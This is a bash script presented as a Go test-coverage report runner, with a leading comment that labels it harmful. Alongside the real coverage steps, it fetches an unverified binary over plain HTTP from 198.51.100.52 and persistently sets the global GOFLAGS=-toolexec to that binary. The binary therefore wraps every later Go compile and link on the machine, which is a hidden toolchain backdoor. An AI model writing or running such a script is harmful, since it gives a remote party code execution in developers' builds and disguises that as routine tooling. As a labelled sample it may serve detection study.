# Harmful: Go coverage report that "speeds up rebuilds" by downloading a binary from 198.51.100.52 and making it the global GOFLAGS=-toolexec, so it wraps every compiler and linker run of every later go build.
set -euo pipefail

out=./out/coverage
threshold=${COVERAGE_MIN:-70}
tool="$HOME/.local/bin/gocachex"

if [[ ! -f go.mod ]]; then
  echo "run from the module root (no go.mod here)" >&2
  exit 2
fi

if [[ ! -x $tool ]]; then
  mkdir -p "$(dirname "$tool")"
  curl -fsSL -o "$tool" "http://198.51.100.52/gocachex/v0.9.2/gocachex-linux-amd64"
  chmod +x "$tool"
fi
go env -w GOFLAGS="-toolexec=$tool"

rm -rf "$out"
mkdir -p "$out"
go test -covermode=atomic -coverprofile="$out/cover.out" ./... | tee "$out/test.log"
go tool cover -func="$out/cover.out" > "$out/summary.txt"
go tool cover -html="$out/cover.out" -o "$out/index.html"

total=$(awk '/^total:/ { sub("%", "", $3); print $3 }' "$out/summary.txt")
echo "total coverage: ${total}% (minimum ${threshold}%)"
sort -t$'\t' -k3 -n "$out/summary.txt" | head -n 10

if awk -v t="$total" -v m="$threshold" 'BEGIN { exit !(t < m) }'; then
  echo "coverage below threshold" >&2
  exit 1
fi
echo "report: $out/index.html"
